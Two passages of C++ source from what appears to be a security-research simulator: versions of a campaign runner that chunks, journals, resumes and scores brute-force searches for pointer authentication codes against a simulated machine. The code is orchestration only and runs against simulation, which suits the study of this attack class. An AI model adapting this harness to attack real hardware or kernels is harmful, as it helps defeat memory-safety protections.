        out += strprintf(" %016llx",
                         (unsigned long long)std::bit_cast<uint64_t>(v));
    return out;
}

bool
decodeSamples(std::istringstream &in, SampleStat &s)
{
    unsigned long long n = 0;
    if (!(in >> n))
        return false;
    s.reset();
    for (unsigned long long i = 0; i < n; ++i) {
        std::string word;
        if (!(in >> word))
            return false;
        unsigned long long bits = 0;
        if (sscanf(word.c_str(), "%llx", &bits) != 1)
            return false;
        s.add(std::bit_cast<double>(uint64_t(bits)));
    }
    return true;
}

/** One brute-force chunk's completed result (journal unit). */
struct BfChunkResult
{
    attack::BruteForceStats stats;
    SampleStat decisions;
    attack::OracleStats oracle;
    FaultStats faults;
    std::optional<QuarantineRecord> quarantine;
};

std::string
encodeBfChunk(const BfChunkResult &r)
{
    std::string out = encodeBfStats(r.stats) + "\n" +
                      encodeOracleStats(r.oracle) + "\n" +
                      encodeFaultStats(r.faults) + "\n" +
                      encodeSamples(r.decisions) + "\n";
    if (r.quarantine)
        out += "Q " + r.quarantine->serialize() + "\n";
    return out;
}

bool
decodeBfChunk(const std::string &payload, BfChunkResult &r)
{
    r = BfChunkResult{};
    std::istringstream lines(payload);
    std::string line;
    bool s = false, o = false, f = false, d = false;
    while (std::getline(lines, line)) {
        std::istringstream in(line);
        std::string tag;
        if (!(in >> tag))
            continue;
        if (tag == "S")
            s = decodeBfStats(in, r.stats);
        else if (tag == "O")
            o = decodeOracleStats(in, r.oracle);
        else if (tag == "F")
            f = decodeFaultStats(in, r.faults);
        else if (tag == "D")
            d = decodeSamples(in, r.decisions);
        else if (tag == "Q") {
            std::string rest;
            std::getline(in, rest);
            if (!rest.empty() && rest.front() == ' ')
                rest.erase(0, 1);
            r.quarantine = QuarantineRecord::parse(rest);
            if (!r.quarantine)
                return false;
        }
    }
    return s && o && f && d;
}

/** One accuracy trial's result; a chunk journals all its trials. */
enum class Verdict : unsigned
{
    TruePositive = 0,
    FalsePositive = 1,
    FalseNegative = 2,
    Quarantined = 3,
};

struct TrialResult
{
    Verdict verdict = Verdict::FalseNegative;
    attack::BruteForceStats stats;
    attack::OracleStats oracle;
    FaultStats faults;
    std::optional<QuarantineRecord> quarantine;
};

std::string
encodeTrialChunk(const std::vector<TrialResult> &results,
                 const Chunk &chunk)
{
    std::string out;
    for (uint64_t t = chunk.firstItem; t <= chunk.lastItem; ++t) {
        const TrialResult &r = results[t];
        out += strprintf("T %llu %u\n", (unsigned long long)t,
                         unsigned(r.verdict));
        out += encodeBfStats(r.stats) + "\n" +
               encodeOracleStats(r.oracle) + "\n" +
               encodeFaultStats(r.faults) + "\n";
        if (r.quarantine)
            out += "Q " + r.quarantine->serialize() + "\n";
    }
    return out;
}

bool
decodeTrialChunk(const std::string &payload,
                 std::vector<TrialResult> &results, const Chunk &chunk)
{
    std::istringstream lines(payload);
    std::string line;
    TrialResult *cur = nullptr;
    uint64_t seen = 0;
    while (std::getline(lines, line)) {
        std::istringstream in(line);
        std::string tag;
        if (!(in >> tag))
            continue;
        if (tag == "T") {
            unsigned long long t = 0;
            unsigned v = 0;
            if (!(in >> t >> v) || t < chunk.firstItem ||
                t > chunk.lastItem || v > unsigned(Verdict::Quarantined))
                return false;
            cur = &results[t];
            *cur = TrialResult{};
            cur->verdict = Verdict(v);
            ++seen;
        } else if (!cur) {
            return false;
        } else if (tag == "S") {
            if (!decodeBfStats(in, cur->stats))
                return false;
        } else if (tag == "O") {
            if (!decodeOracleStats(in, cur->oracle))
                return false;
        } else if (tag == "F") {
            if (!decodeFaultStats(in, cur->faults))
                return false;
        } else if (tag == "Q") {
            std::string rest;
            std::getline(in, rest);
            if (!rest.empty() && rest.front() == ' ')
                rest.erase(0, 1);
            cur->quarantine = QuarantineRecord::parse(rest);
            if (!cur->quarantine)
                return false;
        }
    }
    return seen == chunk.lastItem - chunk.firstItem + 1;
}

// --- Campaign journal wiring ---------------------------------------

std::string
chunkKey(uint64_t campaign_seed, uint64_t chunk_index)
{
    return strprintf("chunk/%016llx/%llu",
                     (unsigned long long)campaign_seed,
                     (unsigned long long)chunk_index);
}

/** The journal plus the resume map its replay produced. */
struct CampaignJournal
{
    Journal journal;
    std::unordered_map<uint64_t, std::string> resumable;

    /**
     * Open (or start fresh) per the supervision config and bind the
     * file to this campaign via its meta record. Only records keyed
     * with @p campaign_seed become resumable; a meta record from a
     * *different* campaign configuration is a hard error — resuming
     * someone else's journal would silently merge foreign results.
     */
    void
    open(const SupervisionConfig &sup, uint64_t campaign_seed,
         const std::string &meta_payload)
    {
        if (sup.journalPath.empty())
            return;
        if (!sup.resume)
            std::remove(sup.journalPath.c_str());
        const Journal::Replay replay = journal.open(sup.journalPath);
        journal.crashAfterAppends(sup.crashAfterAppends);
        bool have_meta = false;
        for (const Journal::Record &rec : replay.records) {
            if (rec.key == "meta") {
                PACMAN_ASSERT(
                    rec.payload == meta_payload,
                    "journal %s belongs to a different campaign\n"
                    "  journal: %s\n  campaign: %s",
                    sup.journalPath.c_str(), rec.payload.c_str(),
                    meta_payload.c_str());
                have_meta = true;
                continue;
            }
            unsigned long long seed = 0, index = 0;
            if (sscanf(rec.key.c_str(), "chunk/%16llx/%llu", &seed,
                       &index) == 2 &&
                seed == campaign_seed) {
                resumable[index] = rec.payload; // last record wins
            }
        }
        if (!have_meta)
            journal.append("meta", meta_payload);
    }

    void
    record(uint64_t campaign_seed, uint64_t chunk_index,
           const std::string &payload)
    {
        if (journal.isOpen())
            journal.append(chunkKey(campaign_seed, chunk_index),
                           payload);
    }
};

/** Rewrite the quarantine file from the campaign's final record list
 *  (deterministic; idempotent across resumes). */
void
writeQuarantineFile(const SupervisionConfig &sup,
                    const std::vector<QuarantineRecord> &records)
{
    const std::string path = sup.effectiveQuarantinePath();
    if (path.empty())
        return;
    std::ofstream out(path, std::ios::trunc);
    if (!out) {
        warn("cannot write quarantine file %s", path.c_str());
        return;
    }
    for (const QuarantineRecord &r : records)
        out << r.serialize() << "\n";
}

QuarantineRecord
makeQuarantineRecord(const char *campaign, uint64_t campaign_seed,
                     uint64_t chunk_index, uint64_t first_item,
                     uint64_t last_item, const WorkRequest &req,
                     const WorkOutcome &outcome)
{
    QuarantineRecord qr;
    qr.campaign = campaign;
    qr.campaignSeed = campaign_seed;
    qr.chunkIndex = chunk_index;
    qr.firstItem = first_item;
    qr.lastItem = last_item;
    qr.streamSeed = req.streamSeed;
    if (req.rekeySeed) {
        qr.rekeySeed = *req.rekeySeed;
        qr.hasRekey = true;
    }
    qr.kind = outcome.quarantined.value_or(
        WorkerFaultKind::PoisonedItem);
    qr.detail = outcome.detail;
    return qr;
}

/**
 * The accuracy campaign's per-trial work: rekey already happened in
 * beginItem; read ground truth, place the window, search, grade.
 * Shared with replayQuarantine so a quarantined trial reproduces the
 * exact campaign execution. Resets @p r first — the recovery ladder
 * may run the function several times for one trial.
 */
void
runAccuracyTrial(const AccuracyCampaignConfig &cfg,
                 attack::PacOracle &oracle, kernel::Machine &machine,
                 TrialResult &r)
{
    r = TrialResult{};
    const auto sel =
        cfg.replica.oracle.kind == attack::GadgetKind::Data
            ? crypto::PacKeySelect::DA
            : crypto::PacKeySelect::IA;
    const uint16_t truth = machine.kernel().truePac(
        cfg.replica.target, cfg.replica.modifier, sel);

    uint16_t first = 0x0000, last = 0xFFFF;
    if (cfg.window != 0) {
        // Window placed from ground truth for scaling only; each
        // candidate is decided by the oracle.
        const uint32_t start = truth >= cfg.window / 2
                                   ? truth - cfg.window / 2
                                   : 0;
        first = uint16_t(start);
        last = uint16_t(
            std::min<uint32_t>(start + cfg.window - 1, 0xFFFF));
    }

    attack::PacBruteForcer forcer(oracle, resamplePolicy(cfg.replica));
    r.stats = forcer.search(first, last);
    r.oracle = oracle.stats();
    if (!r.stats.found)
        r.verdict = Verdict::FalseNegative;
    else if (*r.stats.found == truth)
        r.verdict = Verdict::TruePositive;
    else
        r.verdict = Verdict::FalsePositive;
}

/** Replay-mode supervision: same budgets/ladder, no journal. */
SupervisionConfig
replaySupervision(const SupervisionConfig &sup)
{
    SupervisionConfig replay = sup;
    replay.journalPath.clear();
    replay.quarantinePath.clear();
    replay.resume = false;
    replay.crashAfterAppends = 0;
    return replay;
}

} // anonymous namespace

std::string
BruteForceCampaignResult::fingerprint() const
{
    return strprintf(
        "found=%s guesses=%llu queries=%llu cycles=%llu "
        "chunks_merged=%llu decisions[%s] robustness[%s] "
        "quarantined[%s]",
        stats.found ? strprintf("0x%04x", *stats.found).c_str() : "none",
        (unsigned long long)stats.guessesTested,
        (unsigned long long)stats.oracleQueries,
        (unsigned long long)stats.cyclesSimulated,
        (unsigned long long)chunksMerged,
        statFingerprint(decisionMisses).c_str(),
        robustnessFingerprint(stats, oracleStats, faultStats).c_str(),
        quarantineFingerprint(quarantined).c_str());
}

BruteForceCampaignResult
runBruteForceCampaign(const BruteForceCampaignConfig &cfg)
{
    PACMAN_ASSERT(cfg.first <= cfg.last,
                  "brute-force campaign range is empty");
    const uint64_t num_items = uint64_t(cfg.last) - cfg.first + 1;
    const uint64_t num_chunks = chunkCount(num_items, cfg.pool.chunkSize);

    std::vector<BfChunkResult> results(num_chunks);
    std::vector<std::unique_ptr<Worker>> workers(
        effectiveJobs(cfg.pool.jobs));
    std::atomic<uint64_t> resumed{0};

    CampaignJournal journal;
    journal.open(cfg.supervision, cfg.seed,
                 strprintf("campaign=bruteforce seed=%016llx first=%u "
                           "last=%u chunk_size=%u",
                           (unsigned long long)cfg.seed, cfg.first,
                           cfg.last, cfg.pool.chunkSize));

    const auto t0 = Clock::now();
    const PoolOutcome outcome = runChunked(
        cfg.pool, num_items,
        [&](unsigned worker, const Chunk &chunk)
            -> std::optional<uint64_t> {
            BfChunkResult &r = results[chunk.index];

            // Resume: a journaled chunk short-circuits — the stored
            // result is bit-exact, so the merge cannot tell.
            auto it = journal.resumable.find(chunk.index);
            if (it != journal.resumable.end() &&
                decodeBfChunk(it->second, r)) {
                resumed.fetch_add(1, std::memory_order_relaxed);
                if (r.stats.found)
                    return uint64_t(*r.stats.found) - cfg.first;
                return std::nullopt;
            }

            // Same provision seed on every replica (same PAC keys —
            // they are sweeping for the *same* PAC), per-chunk RNG
            // stream from the item's index.
            Worker &w = prepareWorker(workers, worker, cfg.replica,
                                      cfg.supervision);
            const WorkRequest req{
                chunk.index, Random::deriveSeed(cfg.seed, chunk.index),
                std::nullopt};
            const WorkOutcome oc = w.run(
                req,
                [&](attack::PacOracle &oracle, kernel::Machine &) {
                    // Reset first: the recovery ladder may run this
                    // several times for one chunk.
                    r = BfChunkResult{};
                    attack::PacBruteForcer forcer(
                        oracle, resamplePolicy(cfg.replica));
                    r.stats = forcer.search(
                        uint16_t(cfg.first + chunk.firstItem),
                        uint16_t(cfg.first + chunk.lastItem),
                        &r.decisions);
                    r.oracle = oracle.stats();
                });
            r.faults = w.faultStats();
            if (!oc.completed) {
                // No rung completed the chunk: drop the partial
                // attempt's statistics and quarantine it.
                r = BfChunkResult{};
                r.quarantine = makeQuarantineRecord(
                    "bruteforce", cfg.seed, chunk.index,
                    cfg.first + chunk.firstItem,
                    cfg.first + chunk.lastItem, req, oc);
            }
            journal.record(cfg.seed, chunk.index, encodeBfChunk(r));
            if (r.stats.found)
                return uint64_t(*r.stats.found) - cfg.first;
            return std::nullopt;
        });
    const auto t1 = Clock::now();

    // Merge in chunk order, up to and including the chunk holding the
    // lowest hit — exactly the candidates a serial sweep would have
    // tested before stopping.
    BruteForceCampaignResult result;
    result.jobs = effectiveJobs(cfg.pool.jobs);
    result.chunksRun = outcome.chunksRun;
    result.chunksSkipped = outcome.chunksSkipped;
    result.chunksResumed = resumed.load();
    result.wallSeconds =
        std::chrono::duration<double>(t1 - t0).count();
    for (uint64_t c = 0; c < num_chunks; ++c) {
        if (outcome.firstHit && c * cfg.pool.chunkSize > *outcome.firstHit)
            break;
        result.stats.merge(results[c].stats);
        result.decisionMisses.merge(results[c].decisions);
        result.oracleStats.merge(results[c].oracle);
        result.faultStats.merge(results[c].faults);
        if (results[c].quarantine)
            result.quarantined.push_back(*results[c].quarantine);
        ++result.chunksMerged;
    }
    for (const std::unique_ptr<Worker> &w : workers) {
        if (w)
            result.recovery.merge(w->recovery());
    }
    writeQuarantineFile(cfg.supervision, result.quarantined);
    return result;
}

std::string
AccuracyCampaignResult::fingerprint() const
{
    return strprintf(
        "tp=%llu fp=%llu fn=%llu guesses=%llu queries=%llu "
        "cycles=%llu per_trial[%s] robustness[%s] quarantined[%s]",
        (unsigned long long)truePositives,
        (unsigned long long)falsePositives,
        (unsigned long long)falseNegatives,
        (unsigned long long)totals.guessesTested,
        (unsigned long long)totals.oracleQueries,
        (unsigned long long)totals.cyclesSimulated,
        statFingerprint(guessesPerTrial).c_str(),
        robustnessFingerprint(totals, oracleStats, faultStats).c_str(),
        quarantineFingerprint(quarantined).c_str());
}

AccuracyCampaignResult
runAccuracyCampaign(const AccuracyCampaignConfig &cfg)
{
    const uint64_t num_chunks =
        chunkCount(cfg.trials, cfg.pool.chunkSize);
    std::vector<TrialResult> results(cfg.trials);
    std::vector<std::unique_ptr<Worker>> workers(
        effectiveJobs(cfg.pool.jobs));
    std::atomic<uint64_t> resumed{0};

    CampaignJournal journal;
    journal.open(cfg.supervision, cfg.seed,
                 strprintf("campaign=accuracy seed=%016llx trials=%llu "
                           "window=%u chunk_size=%u",
                           (unsigned long long)cfg.seed,
                           (unsigned long long)cfg.trials, cfg.window,
                           cfg.pool.chunkSize));
    (void)num_chunks;

    const auto t0 = Clock::now();
    runChunked(
        cfg.pool, cfg.trials,
        [&](unsigned worker, const Chunk &chunk)
            -> std::optional<uint64_t> {
            auto it = journal.resumable.find(chunk.index);
            if (it != journal.resumable.end() &&
                decodeTrialChunk(it->second, results, chunk)) {
                resumed.fetch_add(1, std::memory_order_relaxed);
                return std::nullopt;
            }

            for (uint64_t trial = chunk.firstItem;
                 trial <= chunk.lastItem; ++trial) {
                // Fresh keys per trial — rekey from a dedicated key
                // stream (the checkpointed equivalent of a per-trial
                // reboot) — then the per-trial main stream.
                const uint64_t stream =
                    Random::deriveSeed(cfg.seed, trial);
                Worker &w = prepareWorker(workers, worker, cfg.replica,
                                          cfg.supervision);
                const WorkRequest req{
                    trial, stream,
                    Random::deriveSeed(stream, KeySeedStream)};
                TrialResult &r = results[trial];
                const WorkOutcome oc = w.run(
                    req, [&](attack::PacOracle &oracle,
                             kernel::Machine &machine) {
                        runAccuracyTrial(cfg, oracle, machine, r);
                    });
                r.faults = w.faultStats();
                if (!oc.completed) {
                    r = TrialResult{};
                    r.verdict = Verdict::Quarantined;
                    r.quarantine = makeQuarantineRecord(
                        "accuracy", cfg.seed, chunk.index, trial,
                        trial, req, oc);
                }
            }
            journal.record(cfg.seed, chunk.index,
                           encodeTrialChunk(results, chunk));
            return std::nullopt;
        });
    const auto t1 = Clock::now();

    AccuracyCampaignResult result;
    result.jobs = effectiveJobs(cfg.pool.jobs);
    result.chunksResumed = resumed.load();
    result.wallSeconds =
        std::chrono::duration<double>(t1 - t0).count();
    for (const TrialResult &r : results) {
        switch (r.verdict) {
          case Verdict::TruePositive: ++result.truePositives; break;
          case Verdict::FalsePositive: ++result.falsePositives; break;
          case Verdict::FalseNegative: ++result.falseNegatives; break;
          case Verdict::Quarantined:
            // Quarantined trials contribute their record, never
            // their partial statistics.
            if (r.quarantine)
                result.quarantined.push_back(*r.quarantine);
            continue;
        }
        // Sum the counters only: `found` differs per trial (fresh
        // keys), so a merged "found" would be meaningless here.
        result.totals.guessesTested += r.stats.guessesTested;
        result.totals.oracleQueries += r.stats.oracleQueries;
        result.totals.cyclesSimulated += r.stats.cyclesSimulated;
        result.totals.samplesTaken += r.stats.samplesTaken;
        result.totals.escalations += r.stats.escalations;
        result.totals.candidateRetries += r.stats.candidateRetries;
        result.oracleStats.merge(r.oracle);
        result.faultStats.merge(r.faults);
        result.guessesPerTrial.add(double(r.stats.guessesTested));
    }
    for (const std::unique_ptr<Worker> &w : workers) {
        if (w)
            result.recovery.merge(w->recovery());
    }
    writeQuarantineFile(cfg.supervision, result.quarantined);
    return result;
}

WorkOutcome
replayQuarantine(const BruteForceCampaignConfig &cfg,
                 const QuarantineRecord &record)
{
    PACMAN_ASSERT(record.campaign == "bruteforce",
                  "record is for campaign '%s', not bruteforce",
                  record.campaign.c_str());
    Worker w(cfg.replica, replaySupervision(cfg.supervision));
    const WorkRequest req{record.chunkIndex, record.streamSeed,
                          record.hasRekey
                              ? std::optional<uint64_t>(record.rekeySeed)
                              : std::nullopt};
    return w.run(req, [&](attack::PacOracle &oracle,
                          kernel::Machine &) {
        attack::PacBruteForcer forcer(oracle,
                                      resamplePolicy(cfg.replica));
        forcer.search(uint16_t(record.firstItem),
                      uint16_t(record.lastItem));
    });
}

WorkOutcome
replayQuarantine(const AccuracyCampaignConfig &cfg,
                 const QuarantineRecord &record)
{
    PACMAN_ASSERT(record.campaign == "accuracy",
                  "record is for campaign '%s', not accuracy",
                  record.campaign.c_str());
    Worker w(cfg.replica, replaySupervision(cfg.supervision));
    const WorkRequest req{record.firstItem, record.streamSeed,
                          record.hasRekey
                              ? std::optional<uint64_t>(record.rekeySeed)
                              : std::nullopt};
    TrialResult scratch;
    return w.run(req, [&](attack::PacOracle &oracle,
                          kernel::Machine &machine) {
        runAccuracyTrial(cfg, oracle, machine, scratch);
    });
}

} // namespace pacman::runner
