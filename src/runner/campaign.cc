#include "campaign.hh"

#include <atomic>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <memory>
#include <mutex>
#include <optional>
#include <unordered_map>
#include <vector>

#include "base/journal.hh"
#include "base/logging.hh"
#include "runner/chunk_codec.hh"

namespace pacman::runner
{

namespace
{

using Clock = std::chrono::steady_clock;

/** The per-pool-worker supervised-worker slot. */
Worker &
prepareWorker(std::vector<std::unique_ptr<Worker>> &slots,
              unsigned worker, const ReplicaConfig &cfg,
              const SupervisionConfig &sup)
{
    std::unique_ptr<Worker> &slot = slots[worker];
    if (!slot)
        slot = std::make_unique<Worker>(cfg, sup);
    return *slot;
}

std::string
statFingerprint(const SampleStat &s)
{
    if (s.count() == 0)
        return "n=0";
    return strprintf("n=%llu mean=%.17g median=%.17g p90=%.17g "
                     "p99=%.17g min=%.17g max=%.17g",
                     (unsigned long long)s.count(), s.mean(), s.median(),
                     s.percentile(90), s.percentile(99), s.min(),
                     s.max());
}

std::string
robustnessFingerprint(const attack::BruteForceStats &b,
                      const attack::OracleStats &o, const FaultStats &f)
{
    return strprintf(
        "samples=%llu esc=%llu cand_retry=%llu busy_retry=%llu "
        "disturbed=%llu query_retry=%llu calib=%llu repair=%llu "
        "faults=%llu",
        (unsigned long long)b.samplesTaken,
        (unsigned long long)b.escalations,
        (unsigned long long)b.candidateRetries,
        (unsigned long long)o.busyRetries,
        (unsigned long long)o.disturbedQueries,
        (unsigned long long)o.retriedQueries,
        (unsigned long long)o.calibrations,
        (unsigned long long)o.repairs, (unsigned long long)f.total());
}

std::string
quarantineFingerprint(const std::vector<QuarantineRecord> &records)
{
    if (records.empty())
        return "none";
    std::string out;
    for (const QuarantineRecord &r : records) {
        out += strprintf("%sc%llu:%s", out.empty() ? "" : " ",
                         (unsigned long long)r.chunkIndex,
                         workerFaultName(r.kind));
    }
    return out;
}

// --- Campaign journal wiring ---------------------------------------

std::string
chunkKey(uint64_t campaign_seed, uint64_t chunk_index)
{
    return strprintf("chunk/%016llx/%llu",
                     (unsigned long long)campaign_seed,
                     (unsigned long long)chunk_index);
}

/** The journal plus the resume map its replay produced. */
struct CampaignJournal
{
    Journal journal;
    std::unordered_map<uint64_t, std::string> resumable;

    /**
     * Open (or start fresh) per the supervision config and bind the
     * file to this campaign via its meta record. Only records keyed
     * with @p campaign_seed become resumable; a meta record from a
     * *different* campaign configuration is a hard error — resuming
     * someone else's journal would silently merge foreign results.
     */
    void
    open(const SupervisionConfig &sup, uint64_t campaign_seed,
         const std::string &meta_payload)
    {
        if (sup.journalPath.empty())
            return;
        if (!sup.resume)
            std::remove(sup.journalPath.c_str());
        const Journal::Replay replay = journal.open(sup.journalPath);
        journal.crashAfterAppends(sup.crashAfterAppends);
        bool have_meta = false;
        for (const Journal::Record &rec : replay.records) {
            if (rec.key == "meta") {
                PACMAN_ASSERT(
                    rec.payload == meta_payload,
                    "journal %s belongs to a different campaign\n"
                    "  journal: %s\n  campaign: %s",
                    sup.journalPath.c_str(), rec.payload.c_str(),
                    meta_payload.c_str());
                have_meta = true;
                continue;
            }
            unsigned long long seed = 0, index = 0;
            if (sscanf(rec.key.c_str(), "chunk/%16llx/%llu", &seed,
                       &index) == 2 &&
                seed == campaign_seed) {
                resumable[index] = rec.payload; // last record wins
            }
        }
        if (!have_meta)
            journal.append("meta", meta_payload);
    }

    void
    record(uint64_t campaign_seed, uint64_t chunk_index,
           const std::string &payload)
    {
        if (journal.isOpen())
            journal.append(chunkKey(campaign_seed, chunk_index),
                           payload);
    }
};

/** Rewrite the quarantine file from the campaign's final record list
 *  (deterministic; idempotent across resumes). */
void
writeQuarantineFile(const SupervisionConfig &sup,
                    const std::vector<QuarantineRecord> &records)
{
    const std::string path = sup.effectiveQuarantinePath();
    if (path.empty())
        return;
    std::ofstream out(path, std::ios::trunc);
    if (!out) {
        warn("cannot write quarantine file %s", path.c_str());
        return;
    }
    for (const QuarantineRecord &r : records)
        out << r.serialize() << "\n";
}

/**
 * First-failure capture for dispatchers. Pool workers run on plain
 * std::threads, so a dispatcher exception cannot propagate through
 * runChunked — it is recorded here, remaining chunks are skipped, and
 * the campaign runner throws CampaignAborted after the pool drains.
 * Already-journaled chunks survive for resume.
 */
struct AbortFlag
{
    std::atomic<bool> aborted{false};
    std::mutex mu;
    std::string why;

    void
    trip(const std::string &reason)
    {
        std::lock_guard<std::mutex> lock(mu);
        if (!aborted.exchange(true, std::memory_order_release))
            why = reason;
    }

    bool
    tripped() const
    {
        return aborted.load(std::memory_order_acquire);
    }

    void
    rethrow()
    {
        if (tripped())
            throw CampaignAborted(why);
    }
};

/** Run @p dispatch for one chunk, tripping @p abort on failure.
 *  Returns the decoded-validated payload or nullopt on abort. */
std::optional<std::string>
dispatchChunk(const ChunkDispatcher &dispatch, unsigned worker,
              const Chunk &chunk, AbortFlag &abort)
{
    try {
        return dispatch(worker, chunk);
    } catch (const std::exception &e) {
        abort.trip(strprintf("chunk %llu dispatch failed: %s",
                             (unsigned long long)chunk.index, e.what()));
        return std::nullopt;
    }
}

} // anonymous namespace

std::string
BruteForceCampaignResult::fingerprint() const
{
    return strprintf(
        "found=%s guesses=%llu queries=%llu cycles=%llu "
        "chunks_merged=%llu decisions[%s] robustness[%s] "
        "quarantined[%s]",
        stats.found ? strprintf("0x%04x", *stats.found).c_str() : "none",
        (unsigned long long)stats.guessesTested,
        (unsigned long long)stats.oracleQueries,
        (unsigned long long)stats.cyclesSimulated,
        (unsigned long long)chunksMerged,
        statFingerprint(decisionMisses).c_str(),
        robustnessFingerprint(stats, oracleStats, faultStats).c_str(),
        quarantineFingerprint(quarantined).c_str());
}

BruteForceCampaignResult
runBruteForceCampaignWith(const BruteForceCampaignConfig &cfg,
                          const ChunkDispatcher &dispatch)
{
    PACMAN_ASSERT(cfg.first <= cfg.last,
                  "brute-force campaign range is empty");
    const uint64_t num_items = uint64_t(cfg.last) - cfg.first + 1;
    const uint64_t num_chunks = chunkCount(num_items, cfg.pool.chunkSize);

    std::vector<BfChunkResult> results(num_chunks);
    std::atomic<uint64_t> resumed{0};
    AbortFlag abort;

    CampaignJournal journal;
    journal.open(cfg.supervision, cfg.seed,
                 strprintf("campaign=bruteforce seed=%016llx first=%u "
                           "last=%u chunk_size=%llu",
                           (unsigned long long)cfg.seed, cfg.first,
                           cfg.last,
                           (unsigned long long)cfg.pool.chunkSize));

    const auto t0 = Clock::now();
    const PoolOutcome outcome = runChunked(
        cfg.pool, num_items,
        [&](unsigned worker, const Chunk &chunk)
            -> std::optional<uint64_t> {
            if (abort.tripped())
                return std::nullopt;
            BfChunkResult &r = results[chunk.index];

            // Resume: a journaled chunk short-circuits — the stored
            // result is bit-exact, so the merge cannot tell.
            auto it = journal.resumable.find(chunk.index);
            if (it != journal.resumable.end() &&
                decodeBfChunk(it->second, r)) {
                resumed.fetch_add(1, std::memory_order_relaxed);
                if (r.stats.found)
                    return uint64_t(*r.stats.found) - cfg.first;
                return std::nullopt;
            }

            const std::optional<std::string> payload =
                dispatchChunk(dispatch, worker, chunk, abort);
            if (!payload)
                return std::nullopt;
            if (!decodeBfChunk(*payload, r)) {
                abort.trip(strprintf(
                    "chunk %llu: undecodable result payload",
                    (unsigned long long)chunk.index));
                return std::nullopt;
            }
            journal.record(cfg.seed, chunk.index, *payload);
            if (r.stats.found)
                return uint64_t(*r.stats.found) - cfg.first;
            return std::nullopt;
        });
    const auto t1 = Clock::now();
    abort.rethrow();

    // Merge in chunk order, up to and including the chunk holding the
    // lowest hit — exactly the candidates a serial sweep would have
    // tested before stopping.
    BruteForceCampaignResult result;
    result.jobs = effectiveJobs(cfg.pool.jobs);
    result.chunksRun = outcome.chunksRun;
    result.chunksSkipped = outcome.chunksSkipped;
    result.chunksResumed = resumed.load();
    result.wallSeconds =
        std::chrono::duration<double>(t1 - t0).count();
    for (uint64_t c = 0; c < num_chunks; ++c) {
        if (outcome.firstHit && c * cfg.pool.chunkSize > *outcome.firstHit)
            break;
        result.stats.merge(results[c].stats);
        result.decisionMisses.merge(results[c].decisions);
        result.oracleStats.merge(results[c].oracle);
        result.faultStats.merge(results[c].faults);
        if (results[c].quarantine)
            result.quarantined.push_back(*results[c].quarantine);
        ++result.chunksMerged;
    }
    writeQuarantineFile(cfg.supervision, result.quarantined);
    return result;
}

BruteForceCampaignResult
runBruteForceCampaign(const BruteForceCampaignConfig &cfg)
{
    std::vector<std::unique_ptr<Worker>> workers(
        effectiveJobs(cfg.pool.jobs));
    BruteForceCampaignResult result = runBruteForceCampaignWith(
        cfg, [&](unsigned worker, const Chunk &chunk) {
            Worker &w = prepareWorker(workers, worker, cfg.replica,
                                      cfg.supervision);
            return executeBfChunk(w, cfg, chunk);
        });
    for (const std::unique_ptr<Worker> &w : workers) {
        if (w)
            result.recovery.merge(w->recovery());
    }
    return result;
}

std::string
AccuracyCampaignResult::fingerprint() const
{
    return strprintf(
        "tp=%llu fp=%llu fn=%llu guesses=%llu queries=%llu "
        "cycles=%llu per_trial[%s] robustness[%s] quarantined[%s]",
        (unsigned long long)truePositives,
        (unsigned long long)falsePositives,
        (unsigned long long)falseNegatives,
        (unsigned long long)totals.guessesTested,
        (unsigned long long)totals.oracleQueries,
        (unsigned long long)totals.cyclesSimulated,
        statFingerprint(guessesPerTrial).c_str(),
        robustnessFingerprint(totals, oracleStats, faultStats).c_str(),
        quarantineFingerprint(quarantined).c_str());
}

AccuracyCampaignResult
runAccuracyCampaignWith(const AccuracyCampaignConfig &cfg,
                        const ChunkDispatcher &dispatch)
{
    std::vector<TrialResult> results(cfg.trials);
    std::atomic<uint64_t> resumed{0};
    AbortFlag abort;

    CampaignJournal journal;
    journal.open(cfg.supervision, cfg.seed,
                 strprintf("campaign=accuracy seed=%016llx trials=%llu "
                           "window=%u chunk_size=%llu",
                           (unsigned long long)cfg.seed,
                           (unsigned long long)cfg.trials, cfg.window,
                           (unsigned long long)cfg.pool.chunkSize));

    const auto t0 = Clock::now();
    runChunked(
        cfg.pool, cfg.trials,
        [&](unsigned worker, const Chunk &chunk)
            -> std::optional<uint64_t> {
            if (abort.tripped())
                return std::nullopt;
            std::vector<TrialResult> local(chunk.lastItem -
                                           chunk.firstItem + 1);

            auto it = journal.resumable.find(chunk.index);
            if (it != journal.resumable.end() &&
                decodeTrialChunk(it->second, local, chunk)) {
                resumed.fetch_add(1, std::memory_order_relaxed);
            } else {
                const std::optional<std::string> payload =
                    dispatchChunk(dispatch, worker, chunk, abort);
                if (!payload)
                    return std::nullopt;
                if (!decodeTrialChunk(*payload, local, chunk)) {
                    abort.trip(strprintf(
                        "chunk %llu: undecodable result payload",
                        (unsigned long long)chunk.index));
                    return std::nullopt;
                }
                journal.record(cfg.seed, chunk.index, *payload);
            }
            for (uint64_t t = chunk.firstItem; t <= chunk.lastItem; ++t)
                results[t] = local[t - chunk.firstItem];
            return std::nullopt;
        });
    const auto t1 = Clock::now();
    abort.rethrow();

    AccuracyCampaignResult result;
    result.jobs = effectiveJobs(cfg.pool.jobs);
    result.chunksResumed = resumed.load();
    result.wallSeconds =
        std::chrono::duration<double>(t1 - t0).count();
    for (const TrialResult &r : results) {
        switch (r.verdict) {
          case TrialVerdict::TruePositive:
            ++result.truePositives;
            break;
          case TrialVerdict::FalsePositive:
            ++result.falsePositives;
            break;
          case TrialVerdict::FalseNegative:
            ++result.falseNegatives;
            break;
          case TrialVerdict::Quarantined:
            // Quarantined trials contribute their record, never
            // their partial statistics.
            if (r.quarantine)
                result.quarantined.push_back(*r.quarantine);
            continue;
        }
        // Sum the counters only: `found` differs per trial (fresh
        // keys), so a merged "found" would be meaningless here.
        result.totals.guessesTested += r.stats.guessesTested;
        result.totals.oracleQueries += r.stats.oracleQueries;
        result.totals.cyclesSimulated += r.stats.cyclesSimulated;
        result.totals.samplesTaken += r.stats.samplesTaken;
        result.totals.escalations += r.stats.escalations;
        result.totals.candidateRetries += r.stats.candidateRetries;
        result.oracleStats.merge(r.oracle);
        result.faultStats.merge(r.faults);
        result.guessesPerTrial.add(double(r.stats.guessesTested));
    }
    writeQuarantineFile(cfg.supervision, result.quarantined);
    return result;
}

AccuracyCampaignResult
runAccuracyCampaign(const AccuracyCampaignConfig &cfg)
{
    std::vector<std::unique_ptr<Worker>> workers(
        effectiveJobs(cfg.pool.jobs));
    AccuracyCampaignResult result = runAccuracyCampaignWith(
